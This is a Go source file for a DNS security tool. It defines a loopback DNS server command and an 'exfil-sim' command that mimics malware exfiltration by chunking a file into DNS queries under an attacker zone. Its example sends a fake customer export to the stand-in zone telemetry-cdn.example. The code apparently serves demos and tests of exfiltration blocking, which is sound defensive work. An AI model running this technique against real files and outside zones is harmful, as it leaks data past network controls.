package main

import (
	"context"
	"fmt"
	"log/slog"
	"net/netip"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/kordon-dev/kordon/internal/demo/authdns"
	"github.com/kordon-dev/kordon/internal/demo/exfilsim"
	"github.com/miekg/dns"
	"github.com/spf13/cobra"
)

// newDevUpstreamCmd runs the project's own authoritative DNS server: the
// loopback upstream of `kordon dev` and `make demo`.
func newDevUpstreamCmd() *cobra.Command {
	var zonesFile, listen, addrFile string
	cmd := &cobra.Command{
		Use:   "upstream --zones FILE [--dns-listen 127.0.0.1:5300]",
		Short: "Serve zones from a YAML file as a tiny authoritative DNS server on loopback",
		Long: `Serve the zones of a YAML file (see internal/demo/authdns/README.md) over UDP and
TCP, as the upstream of kordon dev, so that no query leaves the machine.
Port 0 picks a free port; the address is printed (and written to --addr-file).`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			zones, err := authdns.LoadConfig(zonesFile)
			if err != nil {
				return err
			}
			log := slog.New(slog.NewJSONHandler(cmd.ErrOrStderr(), nil))
			srv, err := authdns.New(authdns.Config{Zones: zones, Logger: log})
			if err != nil {
				return err
			}
			addr, err := srv.Listen(listen)
			if err != nil {
				return err
			}
			ctx, stop := signal.NotifyContext(cmd.Context(), os.Interrupt, syscall.SIGTERM)
			defer stop()
			fmt.Fprintf(cmd.OutOrStdout(), "authoritative DNS on %s (udp+tcp), %d zones from %s\n", addr, len(zones), zonesFile)
			for _, z := range zones {
				fmt.Fprintf(cmd.OutOrStdout(), "  %s\n", z.Origin())
			}
			if addrFile != "" {
				if err := writeAddrFile(addrFile, map[string]string{"dns": addr.String()}); err != nil {
					return err
				}
			}
			<-ctx.Done()
			shutdownCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			return srv.Shutdown(shutdownCtx)
		},
	}
	cmd.Flags().StringVar(&zonesFile, "zones", "", "zone config YAML (required)")
	cmd.Flags().StringVar(&listen, "dns-listen", "127.0.0.1:5300", "address for UDP and TCP (port 0: pick one)")
	deprecatedAlias(cmd.Flags(), "listen", "dns-listen")
	cmd.Flags().StringVar(&addrFile, "addr-file", "", "write dns=ADDR to this file once listening")
	_ = cmd.MarkFlagRequired("zones")
	return cmd
}

// newDevExfilSimCmd sends a simulated DNS exfiltration from a workload's
// source address.
func newDevExfilSimCmd() *cobra.Command {
	var (
		server, source, zone, file, qtype, output string
		size, chunk                               int
		interval                                  time.Duration
	)
	cmd := &cobra.Command{
		Use:   "exfil-sim --server ADDR --source IP --zone ZONE [--file F | --bytes N]",
		Short: "Leak a (fake) file over DNS the way exfiltration malware does, for demos and tests",
		Example: `  # as report-worker (127.0.0.13 in examples/dev), against kordon dev's DNS
  kordon dev exfil-sim --server 127.0.0.1:5353 --source 127.0.0.13 --zone telemetry-cdn.example`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			cfg := exfilsim.Config{Server: server, Zone: zone, ChunkBytes: chunk, Interval: interval}
			if source != "" {
				ip, err := netip.ParseAddr(source)
				if err != nil {
					return fmt.Errorf("--source: %w", err)
				}
				cfg.Source = ip
			}
			t, ok := dns.StringToType[qtype]
			if !ok {
				return fmt.Errorf("--qtype: unknown type %q", qtype)
			}
			cfg.QType = t
			if file != "" {
				b, err := os.ReadFile(file)
				if err != nil {
					return err
				}
				cfg.Data = b
			} else {
				cfg.Data = exfilsim.FakeSecret(size)
			}
			res, err := exfilsim.Run(cmd.Context(), cfg)
			if err != nil {
				return err
			}
			if output != "text" {
				return printStructured(cmd.OutOrStdout(), output, res)
			}
			w := cmd.OutOrStdout()
			fmt.Fprintf(w, "sent %d queries carrying %d bytes from %s to %s\n", res.Sent, res.Bytes, source, zone)
			for _, n := range res.Names {
				fmt.Fprintf(w, "  %s\n", n)
			}
			fmt.Fprintf(w, "answered %d, blocked %d, failed %d\n", res.Answered, res.Blocked, res.Failed)
			if res.FirstBlocked > 0 {
				fmt.Fprintf(w, "first blocked at query %d: %s\n", res.FirstBlocked, res.BlockedReason)
			}
			return nil
		},
	}
	cmd.Flags().StringVar(&server, "server", "127.0.0.1:5353", "resolver address")
	cmd.Flags().StringVar(&source, "source", "", "source IP (the workload's address)")
	cmd.Flags().StringVar(&zone, "zone", "", "attacker zone the chunks are sent under (required)")
	cmd.Flags().StringVar(&file, "file", "", "file to leak (default: a generated fake customer export)")
	cmd.Flags().IntVar(&size, "bytes", 6000, "size of the generated fake file")
	cmd.Flags().IntVar(&chunk, "chunk", 30, "bytes per query (at most 39)")
	cmd.Flags().StringVar(&qtype, "qtype", "A", "query type")
	cmd.Flags().DurationVar(&interval, "interval", 0, "pause between queries")
	cmd.Flags().StringVarP(&output, "output", "o", "text", "output format: one of [text json yaml]")
	_ = cmd.MarkFlagRequired("zone")
	return cmd
}

// writeAddrFile writes key=value lines atomically, so a script polling for
// the file never reads half of it.
func writeAddrFile(path string, addrs map[string]string) error {
	var b []byte
	for _, k := range []string{"dns", "http", "xds", "workload_api"} {
		if v, ok := addrs[k]; ok {
			b = fmt.Appendf(b, "%s=%s\n", k, v)
		}
	}
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, b, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}
